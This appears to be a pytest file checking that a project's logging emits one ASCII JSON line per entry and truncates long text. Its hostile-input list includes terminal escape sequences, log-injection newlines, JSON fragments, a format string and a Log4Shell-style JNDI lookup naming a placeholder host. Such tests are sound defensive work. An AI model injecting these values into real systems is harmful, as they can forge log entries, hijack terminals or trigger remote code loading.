"""N10: whatever a caller writes, a line of the log is one JSON object, and moves no terminal."""

import json
import logging
from collections.abc import Iterator
from random import Random

import pytest
import structlog
from tests.fakes.log_settings import logging_as_before

from drimbox.command_line.logging_setup import set_up_logging

SEED = 20261127
_HOSTILE = (
    "\r\n", "\n", "\r", "\x00", "\x08", "\x0b", "\x1b[2J", "\x1b]0;title\x07", "\x7f", "\x85",
    "\x9b31m", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f", "\ufeff", "\ud800",
    "${jndi:ldap://198.51.100.1/a}", '"}', '{"event":"box_started"}', "\\n", "\\u000a", "%s%n", "é",
)  # fmt: skip
MAX_TEXT = 512


@pytest.fixture(autouse=True)
def as_before() -> Iterator[None]:
    with logging_as_before():
        yield


def _hostile_texts() -> Iterator[str]:
    random = Random(SEED)
    for _ in range(1000):
        yield "".join(random.choices(_HOSTILE, k=random.randint(1, 8)))


def test_a_thousand_hostile_texts_are_a_line_each(capsys: pytest.CaptureFixture[str]) -> None:
    """As ours log, and as a library does."""
    set_up_logging()
    texts = list(_hostile_texts())
    ours, library = structlog.get_logger("n10"), logging.getLogger("library")
    for text in texts:
        ours.warning("request_failed", door=text, several=[text])
        library.warning("from %s", text)
    lines = capsys.readouterr().out.split("\n")
    assert lines.pop() == ""
    assert len(lines) == 2 * len(texts)
    for line, text in zip(lines[::2], texts, strict=True):
        assert json.loads(line)["door"] == text
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert line.isascii()
        assert line.isprintable()


def test_a_text_without_end_is_cut(capsys: pytest.CaptureFixture[str]) -> None:
    set_up_logging()
    structlog.get_logger("n10").warning("request_failed", door="x" * 100_000)
    logging.getLogger("library").warning("x" * 100_000)
    for line in capsys.readouterr().out.splitlines():
        assert len(line) < 2 * MAX_TEXT
